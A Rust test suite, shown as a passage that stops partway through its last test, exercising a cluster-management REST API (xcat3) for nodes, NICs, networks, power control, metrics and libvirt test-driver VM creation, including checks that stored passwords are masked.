//! Router tests: the whole app on an in-memory SQLite, driven with `oneshot`
//! (no socket). End-to-end tests with the real binaries live in `tests/`.

use axum::body::Body;
use axum::http::{Request, StatusCode};
use serde_json::{Value, json};
use tower::ServiceExt;
use xcat3_api::{AppState, app};
use xcat3_common::config::Config;
use xcat3_db::Db;

async fn state() -> AppState {
    let db = Db::connect("sqlite::memory:").await.unwrap();
    db.migrate().await.unwrap();
    let mut config = Config::default();
    config.api.max_nodes_per_request = 20_000;
    // No periodic power reads behind the tests' backs.
    config.power.sync_interval = 0;
    let bus = xcat3_bus::connect("memory").await.unwrap();
    AppState::new(db, config, bus)
}

/// A state with an in-process conductor `c1` on the memory bus (standalone
/// mode), registered and consuming before this returns.
async fn state_with_conductor() -> AppState {
    let st = state().await;
    let mut cfg = (*st.config).clone();
    cfg.conductor.host = "c1".into();
    // Boot and DHCP trees in a directory of this test, not /var/lib.
    let dir = std::env::temp_dir().join(format!("xcat3-api-test-{}", std::process::id()));
    cfg.boot.tftp_root = dir.join("tftpboot").display().to_string();
    cfg.boot.http_root = dir.join("httpboot").display().to_string();
    cfg.dhcp.dir = dir.join("dhcp").display().to_string();
    // mkvm tests use libvirt's test driver: a 3 GiB host already holding
    // an 8 GiB guest, and only domains of type `test`.
    cfg.kvm.memory_overcommit = 4.0;
    cfg.kvm.domain_type = "test".into();
    let (tx, rx) = tokio::sync::watch::channel(false);
    let (db, bus) = (st.db.clone(), st.bus.clone());
    tokio::spawn(async move {
        let _keep_open = tx;
        xcat3_conductor::service::run(cfg, db, bus, rx)
            .await
            .unwrap()
    });
    for _ in 0..100 {
        let live = xcat3_db::services::live_conductors(&st.db, 30)
            .await
            .unwrap();
        if live == ["c1"] {
            // Registered; give the consumer a moment to attach.
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            return st;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("conductor did not register");
}

async fn call(st: &AppState, method: &str, uri: &str, body: Option<Value>) -> (StatusCode, Value) {
    let (s, v, _) = call_as(st, method, uri, body, None).await;
    (s, v)
}

/// `call` as a client at `peer` (the connection's address, as the
/// listener records it).
async fn call_from(
    st: &AppState,
    peer: &str,
    method: &str,
    uri: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let peer: std::net::SocketAddr = peer.parse().unwrap();
    let mut req = Request::builder()
        .method(method)
        .uri(uri)
        .header("content-type", "application/json")
        .body(
            body.map(|b| Body::from(b.to_string()))
                .unwrap_or_else(Body::empty),
        )
        .unwrap();
    req.extensions_mut()
        .insert(axum::extract::ConnectInfo(peer));
    let resp = app(st.clone()).oneshot(req).await.unwrap();
    let status = resp.status();
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    (
        status,
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

/// `call` with an optional bearer token, also returning the reply headers.
async fn call_as(
    st: &AppState,
    method: &str,
    uri: &str,
    body: Option<Value>,
    token: Option<&str>,
) -> (StatusCode, Value, axum::http::HeaderMap) {
    let mut req = Request::builder()
        .method(method)
        .uri(uri)
        .header("content-type", "application/json");
    if let Some(t) = token {
        req = req.header("authorization", format!("Bearer {t}"));
    }
    let req = req
        .body(
            body.map(|b| Body::from(b.to_string()))
                .unwrap_or_else(Body::empty),
        )
        .unwrap();
    let resp = app(st.clone()).oneshot(req).await.unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    // Text replies (/metrics) as a JSON string.
    let v = if bytes.is_empty() {
        Value::Null
    } else {
        serde_json::from_slice(&bytes)
            .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned()))
    };
    (status, v, headers)
}

/// The prototype's example node (examples/create_nodes.py), number `i`.
/// `GET /metrics` (the registry API and in-process conductor share), which
/// must answer 200.
async fn metrics_text(st: &AppState) -> String {
    let req = Request::builder()
        .uri("/metrics")
        .body(Body::empty())
        .unwrap();
    let resp = app(st.clone()).oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn example_node(i: usize) -> Value {
    let (a, b) = (i / 256, i % 256);
    json!({
        "name": format!("node{i}"), "mgt": "ipmi", "netboot": "pxe",
        "arch": if i.is_multiple_of(2) { "x86_64" } else { "ppc64le" },
        "control_info": {"bmc_address": format!("11.0.{a}.{b}"), "bmc_username": "admin", "bmc_password": "password"},
        "nics_info": {"nics": [
            {"mac": format!("42:87:0a:05:{a:02x}:{b:02x}"), "ip": format!("12.0.{a}.{b}"), "name": "eth0", "primary": true},
            {"mac": format!("43:87:0a:05:{a:02x}:{b:02x}"), "ip": format!("13.0.{a}.{b}"), "name": "eth1"}]}
    })
}

#[tokio::test]
async fn create_show_patch_delete_round_trip() {
    let st = state().await;
    let nodes: Vec<Value> = (0..50).map(example_node).collect();
    let (s, v) = call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;
    assert_eq!(s, StatusCode::CREATED);
    assert_eq!(v["nodes"].as_object().unwrap().len(), 50);
    assert!(
        v["nodes"].as_object().unwrap().values().all(|r| r == "ok"),
        "{v}"
    );

    // Unprefixed paths are the same routes (v1's root prepended /v1).
    let (s, v) = call(&st, "GET", "/nodes/node7", None).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        v["control_info"]["bmc_password"], "******",
        "secrets are masked"
    );
    assert_eq!(v["nics_info"]["nics"][0]["mac"], "42:87:0a:05:00:07");
    assert!(v.get("id").is_none() && v.get("created_at").is_none());

    let (s, v) = call(
        &st,
        "PATCH",
        "/v1/nodes?noderange=node%5B1-10%5D",
        Some(json!({"patches": [
        {"op": "replace", "path": "/arch", "value": "aarch64"},
        {"op": "add", "path": "/control_info/bmc_username", "value": "root"},
        {"op": "add", "path": "/type", "value": "compute"}]})),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(v["nodes"].as_object().unwrap().len(), 10);
    assert!(
        v["nodes"]
            .as_object()
            .unwrap()
            .values()
            .all(|r| r == "updated"),
        "{v}"
    );
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes/info?noderange=node%5B1-2%5D&fields=arch,control",
        None,
    )
    .await;
    assert_eq!(v["nodes"][0]["arch"], "aarch64");
    assert_eq!(v["nodes"][1]["control_info"]["bmc_username"], "root");
    assert!(v["nodes"][0].get("mgt").is_none(), "fields filter: {v}");
    // The password survived the patch (it is masked, not lost).
    let (_, v) = call(&st, "GET", "/v1/nodes/node1", None).await;
    assert_eq!(v["control_info"]["bmc_password"], "******");

    let (s, v) = call(
        &st,
        "DELETE",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "node1"}, {"name": "ghost"}]})),
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED);
    assert_eq!(
        v,
        json!({"nodes": {"node1": "deleted", "ghost": "Could not be found."}})
    );
    // Its nics went with it: the MAC is free again.
    let (_, v) = call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [example_node(1)]})),
    )
    .await;
    assert_eq!(v["nodes"]["node1"], "ok");
}

#[tokio::test]
async fn bad_nodes_get_their_own_error_and_valid_ones_proceed() {
    let st = state().await;
    call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [example_node(1)]})),
    )
    .await;
    let mut dup_mac = example_node(2);
    dup_mac["nics_info"]["nics"][1]["mac"] = json!("42-87-0A-05-00-01"); // node1's, other spelling
    let mut bad_ip = example_node(3);
    bad_ip["nics_info"]["nics"][0]["ip"] = json!("12.0.0.300");
    let (s, v) = call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [
            example_node(1),                       // exists
            dup_mac, bad_ip,
            example_node(4),                       // fine
            {"name": "info", "mgt": "ipmi"},       // shadows a route
            {"name": "n5", "mgt": "ipmi", "control_info": {"colour": "red"}},
            {"name": "n6", "mgt": "ipmi", "nics_info": {"nics": [{"mac": "42:87:0a:05:00:66", "ip": "1.2.3"}]}},
            {"name": "dup"}, {"name": "dup"},
        ]})),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED);
    let r = &v["nodes"];
    assert!(
        r["node1"]
            .as_str()
            .unwrap()
            .starts_with("Error: duplicate name"),
        "{v}"
    );
    assert_eq!(
        r["node2"],
        "nics_info.nics[1].mac: 42:87:0a:05:00:01 is already used by node node1"
    );
    assert!(
        r["node3"]
            .as_str()
            .unwrap()
            .starts_with("nics_info.nics[0].ip:"),
        "{v}"
    );
    assert_eq!(r["node4"], "ok");
    assert!(r["info"].as_str().unwrap().starts_with("name:"), "{v}");
    assert!(
        r["n5"]
            .as_str()
            .unwrap()
            .starts_with("control_info.colour: unknown key for mgt=ipmi"),
        "{v}"
    );
    assert!(
        r["n6"]
            .as_str()
            .unwrap()
            .starts_with("nics_info.nics[0].ip:"),
        "{v}"
    );
    assert!(r["dup"].as_str().unwrap().contains("given 2 times"), "{v}");
    assert_eq!(r.as_object().unwrap().len(), 8, "one result per node: {v}");
    // Nothing half-written: node2 and node3 do not exist, nor their nics.
    let (_, v) = call(&st, "GET", "/v1/nodes", None).await;
    assert_eq!(v, json!({"nodes": ["node1", "node4"]}));
    let (_, v) = call(&st, "GET", "/v1/nics", None).await;
    assert_eq!(v["nics"].as_array().unwrap().len(), 4);

    // A body not of the documented shape (an unknown field, no name, a
    // wrong type) is refused whole, naming the node and the field, and
    // writes nothing.
    for (bad, expect) in [
        (
            json!({"name": "n7", "mgt": "ipmi", "colour": "red"}),
            "node n7: nodes[1].colour: unknown field `colour`",
        ),
        (json!({"mgt": "ipmi"}), "nodes[1]: missing field `name`"),
        (
            json!({"name": "n7", "mgt": "ipmi2"}),
            "node n7: nodes[1].mgt: `ipmi2` is not one of ipmi, kvm, redfish, fake",
        ),
        (
            json!({"name": "n7", "nics_info": {"nics": [{"mac": 5}]}}),
            "node n7: nodes[1].nics_info.nics[0].mac: invalid type",
        ),
        (json!([null]), "nodes[1]: must be a JSON object"),
        (json!(["n7"]), "nodes[1]: must be a JSON object"),
        (
            json!({"name": "n7", "nics_info": {"nics": [{"mac": "zz"}]}}),
            "node n7: nodes[1].nics_info.nics[0].mac: `zz` is not a MAC address",
        ),
    ] {
        let (s, v) = call(
            &st,
            "POST",
            "/v1/nodes",
            Some(json!({"nodes": [example_node(8), bad]})),
        )
        .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
        let text = v["faultstring"].as_str().unwrap();
        assert!(text.starts_with(expect), "{text}");
    }
    let (_, v) = call(&st, "GET", "/v1/nodes", None).await;
    assert_eq!(v, json!({"nodes": ["node1", "node4"]}));
}

#[tokio::test]
async fn invalid_patches_change_nothing() {
    let st = state().await;
    let nodes: Vec<Value> = (1..=3).map(example_node).collect();
    call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;
    for (patch, expect) in [
        (
            json!([{"op": "replace", "path": "/name", "value": "x"}]),
            "/name: cannot be changed",
        ),
        (
            json!([{"op": "replace", "path": "/reservation", "value": "x"}]),
            "/reservation: cannot be changed",
        ),
        (
            json!([{"op": "replace", "path": "/state", "value": "deployed"}]),
            "/state: cannot be changed",
        ),
        (json!([{"op": "move", "path": "/arch"}]), "patches[0].op"),
    ] {
        let (s, v) = call(
            &st,
            "PATCH",
            "/v1/nodes",
            Some(json!({"nodes": [{"name": "node1"}], "patches": patch})),
        )
        .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
        assert!(
            v["faultstring"].as_str().unwrap().starts_with(expect),
            "{v}"
        );
    }
    // Per-node validation: the patched node must still be valid.
    let (_, v) = call(
        &st,
        "PATCH",
        "/v1/nodes?noderange=node1,node2",
        Some(json!({"patches": [
        {"op": "add", "path": "/mgt", "value": "ipmx"}]})),
    )
    .await;
    assert_eq!(
        v["nodes"]["node1"],
        "mgt: `ipmx` is not one of ipmi, kvm, redfish, fake"
    );
    // A nic moved onto another node's MAC is refused for that node only.
    let (_, v) = call(
        &st,
        "PATCH",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "node2"}], "patches": [
        {"op": "replace", "path": "/nics_info/nics/0/mac", "value": "42:87:0a:05:00:01"}]})),
    )
    .await;
    assert_eq!(
        v["nodes"]["node2"],
        "nics_info.nics[0].mac: 42:87:0a:05:00:01 is already used by node node1"
    );
    let (_, v) = call(&st, "GET", "/v1/nodes/node2", None).await;
    assert_eq!(v["mgt"], "ipmi");
    assert_eq!(v["nics_info"]["nics"][0]["mac"], "42:87:0a:05:00:02");
    // The mask is never accepted as a password.
    let (_, v) = call(
        &st,
        "PATCH",
        "/v1/nodes?noderange=node3",
        Some(json!({"patches": [
        {"op": "add", "path": "/control_info/bmc_password", "value": "******"}]})),
    )
    .await;
    assert!(
        v["nodes"]["node3"]
            .as_str()
            .unwrap()
            .starts_with("control_info.bmc_password:"),
        "{v}"
    );
}

#[tokio::test]
async fn malformed_requests_are_4xx_with_a_fault_body() {
    let st = state().await;
    let req = Request::builder()
        .method("POST")
        .uri("/v1/nodes")
        .header("content-type", "application/json")
        .body(Body::from("{nope"))
        .unwrap();
    let resp = app(st.clone()).oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    let v: Value = serde_json::from_slice(
        &axum::body::to_bytes(resp.into_body(), usize::MAX)
            .await
            .unwrap(),
    )
    .unwrap();
    assert_eq!(v["faultcode"], "Client");
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .contains("not valid JSON")
    );

    for (method, uri, body, status) in [
        (
            "POST",
            "/v1/nodes",
            json!({"nodes": []}),
            StatusCode::BAD_REQUEST,
        ),
        (
            "POST",
            "/v1/nodes",
            json!({"node": []}),
            StatusCode::BAD_REQUEST,
        ),
        (
            "GET",
            "/v1/nodes/info?noderange=node%5B1-",
            Value::Null,
            StatusCode::BAD_REQUEST,
        ),
        (
            "GET",
            "/v1/nodes/info?bogus=1",
            Value::Null,
            StatusCode::BAD_REQUEST,
        ),
        (
            "GET",
            "/v1/nodes/info?noderange=node%5B1-20001%5D",
            Value::Null,
            StatusCode::PAYLOAD_TOO_LARGE,
        ),
        (
            "GET",
            "/v1/nodes/missing",
            Value::Null,
            StatusCode::NOT_FOUND,
        ),
        (
            "GET",
            "/v1/nodes/info",
            Value::Null,
            StatusCode::BAD_REQUEST,
        ),
        ("GET", "/v1/nowhere", Value::Null, StatusCode::NOT_FOUND),
        (
            "DELETE",
            "/v1/nodes?noderange=a",
            json!({"nodes": [{"name": "a"}]}),
            StatusCode::BAD_REQUEST,
        ),
    ] {
        let body = (!body.is_null()).then_some(body);
        let (s, v) = call(&st, method, uri, body).await;
        assert_eq!(s, status, "{method} {uri}: {v}");
        assert!(v["faultstring"].is_string(), "{method} {uri}: {v}");
    }
}

#[tokio::test]
async fn noderange_expansion_reports_unknown_names() {
    let st = state().await;
    let nodes: Vec<Value> = (1..=5).map(example_node).collect();
    call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;
    let (_, v) = call(&st, "GET", "/v1/nodes?noderange=node%5B1-7%5D,-node2", None).await;
    assert_eq!(
        v,
        json!({"nodes": ["node1", "node3", "node4", "node5"], "missing": "node[6-7]"})
    );
    let (_, v) = call(&st, "GET", "/v1/nodes?noderange=%2Fnode%5B45%5D", None).await;
    assert_eq!(v, json!({"nodes": ["node4", "node5"]}));
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes?noderange=node1-node3%40node%5B2-9%5D",
        None,
    )
    .await;
    assert_eq!(v, json!({"nodes": ["node2", "node3"]}));
}

#[tokio::test]
async fn networks_passwds_nics_osimages_services() {
    let st = state().await;
    let (s, v) = call(&st, "POST", "/v1/networks", Some(json!({"name": "mgmt", "subnet": "10.0.0.0", "netmask": "255.255.0.0", "gateway": "10.0.0.1"}))).await;
    assert_eq!(
        (s, v),
        (StatusCode::CREATED, json!({"network": {"mgmt": "ok"}}))
    );
    let (s, _) = call(&st, "POST", "/v1/networks", Some(json!({"name": "mgmt"}))).await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (s, v) = call(
        &st,
        "PATCH",
        "/v1/networks/mgmt",
        Some(json!([{"op": "add", "path": "/gateway", "value": "10.1.0.1"}])),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert_eq!(
        v["faultstring"],
        "network mgmt: gateway: 10.1.0.1 is outside 10.0.0.0/255.255.0.0"
    );
    let (_, v) = call(&st, "GET", "/v1/networks", None).await;
    assert_eq!(v, json!({"networks": [{"name": "mgmt"}]}));
    let (s, _) = call(&st, "DELETE", "/v1/networks/mgmt", None).await;
    assert_eq!(s, StatusCode::ACCEPTED);

    let (s, _) = call(
        &st,
        "POST",
        "/v1/passwds",
        Some(json!({"key": "system", "password": "cluster", "crypt_method": "sha512"})),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED);
    for uri in ["/v1/passwds/system", "/v1/passwds/get_by_id?id=1"] {
        let (_, v) = call(&st, "GET", uri, None).await;
        assert_eq!(v["password"], "******", "{uri}");
    }
    let (_, v) = call(&st, "GET", "/v1/passwds", None).await;
    assert!(!v.to_string().contains("cluster"), "plaintext leaked: {v}");

    call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "n1"}]})),
    )
    .await;
    let (s, v) = call(
        &st,
        "POST",
        "/v1/nics",
        Some(json!({"mac": "AA:BB:CC:00:00:01", "node": "n1", "ip": "10.0.0.5"})),
    )
    .await;
    assert_eq!(
        (s, v),
        (StatusCode::CREATED, json!({"aa:bb:cc:00:00:01": "ok"}))
    );
    let (_, v) = call(&st, "GET", "/v1/nics/address?mac=aa-bb-cc-00-00-01", None).await;
    assert_eq!(v["node"], "n1");
    assert_eq!(v["primary"], true, "a node's first nic is primary");
    let uuid = v["uuid"].as_str().unwrap().to_string();
    let (s, v) = call(
        &st,
        "PATCH",
        &format!("/v1/nics/{uuid}"),
        Some(json!([{"op": "replace", "path": "/ip", "value": "10.0.0.6"}])),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["ip"], "10.0.0.6");
    let (s, _) = call(
        &st,
        "POST",
        "/v1/nics",
        Some(json!({"mac": "aa:bb:cc:00:00:01", "node": "n1"})),
    )
    .await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (_, v) = call(&st, "GET", "/v1/nics/node?node_name=n1", None).await;
    assert_eq!(v["nics"].as_array().unwrap().len(), 1);
    let (s, _) = call(&st, "DELETE", &format!("/v1/nics/{uuid}"), None).await;
    assert_eq!(s, StatusCode::ACCEPTED);

    let (s, v) = call(&st, "GET", "/v1/osimages", None).await;
    assert_eq!((s, v), (StatusCode::OK, json!({"images": []})));
    let (s, _) = call(&st, "GET", "/v1/osimages/ubuntu", None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, v) = call(&st, "GET", "/v1/services", None).await;
    assert_eq!((s, v), (StatusCode::OK, json!({"services": []})));
}

#[tokio::test]
async fn power_and_boot_device_through_the_in_process_conductor() {
    let st = state_with_conductor().await;
    let nodes: Vec<Value> = (1..=300)
        .map(|i| json!({"name": format!("f{i}"), "mgt": "fake"}))
        .chain([
            json!({"name": "broken", "mgt": "fake", "control_info": {"fake_fail_rate": 1}}),
            json!({"name": "bmc1", "mgt": "kvm"}),
            json!({"name": "bare"}),
        ])
        .collect();
    call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;

    let (s, v) = call(
        &st,
        "PUT",
        "/v1/nodes/power?target=on&noderange=f%5B1-300%5D,broken,bmc1,bare,ghost",
        None,
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED);
    let r = v["nodes"].as_object().unwrap();
    assert_eq!(r.len(), 304, "exactly one result per node");
    assert_eq!(r.values().filter(|x| *x == "ok").count(), 300);
    assert_eq!(r["broken"], "fake: injected failure");
    assert_eq!(
        r["bmc1"],
        "control_info.ssh_address or control_info.libvirt_uri: one is required for mgt=kvm"
    );
    assert_eq!(r["bare"], "mgt: not set");
    assert_eq!(r["ghost"], "Could not be found.");

    // The v1 body form, on GET.
    let (s, v) = call(
        &st,
        "GET",
        "/v1/nodes/power",
        Some(json!({"nodes": [{"name": "f1"}, {"name": "f300"}]})),
    )
    .await;
    assert_eq!(
        (s, v),
        (StatusCode::OK, json!({"nodes": {"f1": "on", "f300": "on"}}))
    );
    call(&st, "PUT", "/v1/nodes/power?target=soft&noderange=f1", None).await;
    let (_, v) = call(&st, "GET", "/v1/nodes/power?noderange=f1,f2", None).await;
    assert_eq!(v, json!({"nodes": {"f1": "off", "f2": "on"}}));
    let (_, v) = call(&st, "GET", "/v1/nodes/f1?fields=power_state", None).await;
    assert_eq!(v, json!({"power_state": "off"}));

    let (_, v) = call(
        &st,
        "PUT",
        "/v1/nodes/boot_device?target=net&noderange=f%5B1-2%5D",
        None,
    )
    .await;
    assert_eq!(v, json!({"nodes": {"f1": "ok", "f2": "ok"}}));
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes/boot_device?noderange=f%5B1-3%5D",
        None,
    )
    .await;
    assert_eq!(
        v,
        json!({"nodes": {"f1": "net", "f2": "net", "f3": "disk"}})
    );

    for (uri, expect) in [
        (
            "/v1/nodes/power?target=sideways&noderange=f1",
            "target: `sideways` is not one of on, off, soft, reset, cycle, boot",
        ),
        (
            "/v1/nodes/boot_device?target=floppy&noderange=f1",
            "target: `floppy` is not one of net, disk, cdrom, bios",
        ),
    ] {
        let (s, v) = call(&st, "PUT", uri, None).await;
        assert_eq!(s, StatusCode::BAD_REQUEST);
        assert_eq!(v["faultstring"], expect);
    }
    // Locks are released after every request.
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes/info?noderange=f%5B1-300%5D&fields=reservation",
        None,
    )
    .await;
    assert!(
        v["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .all(|n| n["reservation"].is_null()),
        "{v}"
    );

    let (_, v) = call(&st, "GET", "/v1/ring?noderange=f1,ghost", None).await;
    assert_eq!(v, json!({"nodes": {"f1": "c1"}, "missing": "ghost"}));

    // What this test did, as Prometheus sees it (API and the in-process
    // conductor share the registry).
    let text = metrics_text(&st).await;
    for line in [
        "# TYPE xcat3_api_requests_total counter",
        "xcat3_api_requests_total{method=\"PUT\",route=\"/v1/nodes/power\",status=\"202\"} 2",
        "xcat3_api_requests_total{method=\"PUT\",route=\"/v1/nodes/power\",status=\"400\"} 1",
        "xcat3_api_node_results_total{action=\"power\",outcome=\"ok\"} 301",
        "xcat3_api_node_results_total{action=\"power\",outcome=\"error\"} 3",
        "xcat3_api_live_conductors 1",
        "# TYPE xcat3_conductor_driver_seconds histogram",
        "xcat3_conductor_driver_seconds_count{mgt=\"fake\",action=\"power\",outcome=\"ok\"} 301",
        "xcat3_conductor_driver_seconds_count{mgt=\"kvm\",action=\"power\",outcome=\"error\"} 1",
    ] {
        assert!(text.lines().any(|l| l == line), "{line} not in\n{text}");
    }
}

#[tokio::test]
async fn ndjson_streams_batches_covering_every_node() {
    let st = state_with_conductor().await;
    let nodes: Vec<Value> = (1..=2500)
        .map(|i| json!({"name": format!("f{i}"), "mgt": "fake"}))
        .collect();
    call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;
    let req = Request::builder()
        .method("GET")
        .uri("/v1/nodes/power?noderange=f%5B1-2500%5D,nope")
        .header("accept", "application/x-ndjson")
        .body(Body::empty())
        .unwrap();
    let resp = app(st.clone()).oneshot(req).await.unwrap();
    assert_eq!(resp.headers()["content-type"], "application/x-ndjson");
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let mut seen = std::collections::HashMap::new();
    let mut lines = 0;
    for line in text.lines() {
        lines += 1;
        let v: Value = serde_json::from_str(line).unwrap();
        for (k, r) in v["nodes"].as_object().unwrap() {
            assert!(
                seen.insert(k.clone(), r.clone()).is_none(),
                "{k} answered twice"
            );
        }
    }
    assert_eq!(seen.len(), 2501);
    assert!(
        lines >= 3,
        "results arrive in several batches, got {lines}: {}",
        &text[..text.len().min(400)]
    );
    assert_eq!(seen["nope"], "Could not be found.");
}

#[tokio::test]
async fn no_live_conductor_is_an_explicit_error_per_node() {
    let st = state().await;
    call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "n1", "mgt": "fake"}]})),
    )
    .await;
    let (_, v) = call(&st, "GET", "/v1/nodes/power?noderange=n1", None).await;
    assert_eq!(
        v,
        json!({"nodes": {"n1": "no conductor is alive to act on this node"}})
    );
}

/// mkvm/rmvm input checks, before any hypervisor is asked; the guests go
/// through libvirt's built-in test driver (`test:///default`, no daemon).
#[tokio::test]
async fn mkvm_validates_and_rolls_back_failed_guests() {
    let st = state_with_conductor().await;
    let nodes = json!({"nodes": [
        {"name": "hv", "type": "hypervisor", "control_info": {"libvirt_uri": "test:///default"}},
        {"name": "plain", "mgt": "fake"},
    ]});
    call(&st, "POST", "/v1/nodes", Some(nodes)).await;
    for (uri, body, want) in [
        (
            "/v1/nodes/vm?noderange=g1",
            json!({"hosts": "hv", "colour": 1}),
            "colour: unknown field",
        ),
        (
            "/v1/nodes/vm?noderange=g1",
            json!({"hosts": "hv", "memory": 4}),
            "memory: 4 MiB is not between",
        ),
        (
            "/v1/nodes/vm?noderange=g1",
            json!({"hosts": "hv", "disk": "1G", "disk_image": "/i"}),
            "disk_image: give vm_disk",
        ),
        (
            "/v1/nodes/vm?noderange=g1",
            json!({"hosts": "nohv"}),
            "hosts: no node `nohv`",
        ),
        (
            "/v1/nodes/vm?noderange=g1",
            json!({"hosts": "plain"}),
            "hosts: `plain` is not a hypervisor",
        ),
        (
            "/v1/nodes/vm?noderange=g1&purge=true",
            json!({"hosts": "hv"}),
            "purge: only for DELETE",
        ),
    ] {
        let (s, v) = call(&st, "POST", uri, Some(body.clone())).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{body}");
        assert!(
            v["faultstring"].as_str().unwrap().starts_with(want),
            "{body}: {v}"
        );
    }
    // No hypervisor given and none recorded; not a KVM node; too big.
    let (s, v) = call(
        &st,
        "POST",
        "/v1/nodes/vm?noderange=g1,plain",
        Some(json!({"memory": 64})),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED);
    assert!(
        v["nodes"]["g1"]
            .as_str()
            .unwrap()
            .starts_with("control_info.vm_host: not set")
    );
    assert_eq!(
        v["nodes"]["plain"],
        "mgt: `fake`; mkvm makes KVM guests (mgt=kvm)"
    );
    let (_, v) = call(
        &st,
        "POST",
        "/v1/nodes/vm?noderange=big",
        Some(json!({"hosts": "hv", "memory": 1048576})),
    )
    .await;
    assert!(
        v["nodes"]["big"]
            .as_str()
            .unwrap()
            .starts_with("vm_memory: no hypervisor has 1048576 MiB free"),
        "{v}"
    );
    // A guest named like the test driver's own domain: refused by the
    // conductor, and the node it would have been is gone again.
    let (_, v) = call(
        &st,
        "POST",
        "/v1/nodes/vm?noderange=test,g2",
        Some(json!({"hosts": "hv", "memory": 64})),
    )
    .await;
    assert!(
        v["nodes"]["test"]
            .as_str()
            .unwrap()
            .contains("already exists and is not this node's"),
        "{v}"
    );
    assert_eq!(v["nodes"]["g2"], "created");
    let (s, _) = call(&st, "GET", "/v1/nodes/test", None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, v) = call(&st, "GET", "/v1/nodes/g2", None).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(v["mgt"], "kvm");
    assert_eq!(v["control_info"]["vm_host"], "hv");
    assert!(
        v["nics_info"]["nics"][0]["mac"]
            .as_str()
            .unwrap()
            .starts_with("52:54:00:")
    );
    // Spread over two hypervisors (two test-driver instances) by free
    // memory: 512 MiB each, eight guests, both hosts used.
    let hvs = json!({"nodes": [
        {"name": "hva", "type": "hypervisor", "control_info": {"libvirt_uri": "test:///default?a"}},
        {"name": "hvb", "type": "hypervisor", "control_info": {"libvirt_uri": "test:///default?b"}},
    ]});
    call(&st, "POST", "/v1/nodes", Some(hvs)).await;
    let (_, v) = call(
        &st,
        "POST",
        "/v1/nodes/vm?noderange=s%5B1-8%5D",
        Some(json!({"hosts": "hva,hvb", "memory": 512})),
    )
    .await;
    let placed = v["nodes"].as_object().unwrap();
    assert!(placed.values().all(|r| r == "created"), "{v}");
    let (_, shown) = call(&st, "GET", "/v1/nodes/info?noderange=s%5B1-8%5D", None).await;
    let on = |h: &str| {
        shown["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|n| n["control_info"]["vm_host"] == h)
            .count()
    };
    assert_eq!(on("hva") + on("hvb"), 8);
    assert!(on("hva") >= 2 && on("hvb") >= 2, "{shown}");
    // A guest is not made a second time elsewhere while it lives on a host.
    let s1_host = shown["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["name"] == "s1")
        .unwrap()["control_info"]["vm_host"]
        .as_str()
        .unwrap()
        .to_string();
    let other = if s1_host == "hva" { "hvb" } else { "hva" };
    let (_, v) = call(
        &st,
        "POST",
        "/v1/nodes/vm?noderange=s1",
        Some(json!({ "hosts": other })),
    )
    .await;
    assert_eq!(
        v["nodes"]["s1"],
        format!(
            "control_info.vm_host: the guest lives on {s1_host}; rmvm it first to make it elsewhere"
        )
    );
    let (s, v) = call(
        &st,
        "DELETE",
        "/v1/nodes/vm?noderange=g2,ghost&purge=true",
        None,
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED);
    assert_eq!(v["nodes"]["g2"], "removed");
    assert_eq!(v["nodes"]["ghost"], "Could not be found.");
    // Removed: the node keeps its shape but lives nowhere now.
